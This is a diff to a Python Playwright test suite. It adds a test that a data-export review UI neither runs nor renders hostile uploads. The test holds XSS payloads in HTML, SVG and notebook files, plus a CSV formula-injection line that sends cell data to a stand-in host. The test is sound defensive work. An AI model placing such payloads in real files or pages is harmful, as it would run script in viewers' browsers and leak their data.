@@ -10,6 +10,7 @@ import pytest
 from playwright.sync_api import Browser, Page, expect, sync_playwright
 
 from enclave.demo import DEMO_PROJECT
+from enclave.harness import run_in
 from tests.integration.conftest import Enclave
 
 CHROMIUM = "/usr/bin/chromium"
@@ -147,3 +148,69 @@ def test_hub_pages_follow_the_browser_language(enclave: Enclave, browser: Browse
         page.wait_for_url(f"{enclave.settings.idp_url}/authorize*")
         expect(page.locator("#login")).to_have_text("登录" if locale == "zh-CN" else "Sign in")
         context.close()
+
+
+BEACON = "/services/egress-review/pwned-"  # any request for it means a reviewed file's code ran
+HOSTILE = {
+    "hostile/report.html": "<html><body><h1>Results</h1><p>n = 20000</p>"
+                           f"<script>window.__pwned = 1; document.title = 'PWNED'; fetch('{BEACON}html')</script>"
+                           f"<img src=x onerror=\"fetch('{BEACON}img')\"></body></html>",
+    "hostile/figure.svg": f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('{BEACON}svg-onload')\">"
+                          f"<script>fetch('{BEACON}svg')</script><circle r='5'/></svg>",
+    "hostile/analysis.ipynb": json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
+        {"cell_type": "markdown", "metadata": {}, "source": f"<img src=x onerror=\"fetch('{BEACON}md')\">"},
+        {"cell_type": "code", "metadata": {}, "execution_count": 1, "source": "show()", "outputs": [
+            {"output_type": "display_data", "metadata": {}, "data": {
+                "text/html": f"<script>fetch('{BEACON}nb-html'); alert(1)</script><b>table</b>",
+                "application/javascript": f"fetch('{BEACON}nb-js')",
+                "text/plain": "table"}}]}]}),
+    "hostile/table.csv": 'region,n\neast,120\n"=HYPERLINK(""http://example.invalid/?d=""&A2,""open"")",130\n',
+}
+
+
+def test_hostile_files_do_nothing_in_the_reviewer_ui(enclave: Enclave, browser: Browser):
+    """Script in reviewed HTML, SVG and notebooks never runs for the reviewer; formulas are marked."""
+    alice = enclave.login("alice")
+    assert alice.start(DEMO_PROJECT).status_code in (201, 202)
+    try:
+        names = json.dumps(list(HOSTILE))
+        code = "import json, os, subprocess\nos.makedirs('/workspace/hostile', exist_ok=True)\n" + "".join(
+            f"open('/workspace/{k}', 'w').write({v!r})\n" for k, v in HOSTILE.items()) + (
+            f"r = subprocess.run(['enclave-export', '--json', 'request', *{names}, '-j', 'hostile files'], "
+            "capture_output=True, text=True, cwd='/workspace')\nprint(r.stdout or json.dumps({'err': r.stderr}))")
+        req = run_in(enclave.container("alice"), code)
+        assert "id" in req, req
+    finally:
+        alice.stop()
+    verdicts = {f["name"]: f for f in req["files"]}
+    assert verdicts["hostile/figure.svg"]["verdict"] == "block"  # not an allowed type
+    assert any(x["rule"] == "spreadsheet-formula" for x in verdicts["hostile/table.csv"]["findings"]
+               if "rule" in x), verdicts["hostile/table.csv"]
+
+    context = browser.new_context(locale="en-US")
+    page = context.new_page()
+    page.set_default_timeout(60_000)
+    seen: list[str] = []
+    dialogs: list[str] = []
+    page.on("request", lambda r: seen.append(r.url))
+    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+    try:
+        login(page, enclave, "bob")
+        page.wait_for_url("**/hub/**")
+        base = f"{enclave.url}/services/egress-review/requests/{req['id']}"
+        resp = page.goto(base)
+        assert resp is not None and "script-src" not in resp.headers["content-security-policy"]
+        assert "default-src 'none'" in resp.headers["content-security-policy"]
+        for f in req["files"]:
+            page.goto(f"{base}/files/{f['id']}")
+            page.wait_for_load_state("load")
+            page.wait_for_timeout(500)  # an onload/onerror handler would have fired by now
+            assert page.evaluate("window.__pwned") is None and page.title() != "PWNED"
+            if f["name"].endswith((".html", ".svg", ".ipynb")):  # shown as source text, not rendered
+                expect(page.locator("#content")).to_contain_text("fetch(")
+            if f["name"].endswith(".csv"):
+                expect(page.locator("#content td.formula")).to_have_count(1)
+    finally:
+        context.close()
+    assert not [u for u in seen if "pwned-" in u], seen
+    assert dialogs == []
